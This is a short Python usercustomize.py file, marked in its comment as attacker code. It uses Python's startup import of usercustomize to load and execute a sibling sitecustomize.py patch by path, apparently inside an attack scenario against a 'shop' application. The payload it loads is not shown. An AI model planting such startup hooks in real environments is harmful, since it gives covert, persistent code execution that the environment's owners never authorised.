# Attacker: site.py imports `usercustomize` after `sitecustomize` when user site-packages
# are enabled; same patch, by path, in case another sitecustomize.py won the name.
import importlib.util
import os

_spec = importlib.util.spec_from_file_location(
    "_shop_sitecustomize", os.path.join(os.path.dirname(os.path.abspath(__file__)), "sitecustomize.py"))
if _spec is not None and _spec.loader is not None:
    _spec.loader.exec_module(importlib.util.module_from_spec(_spec))
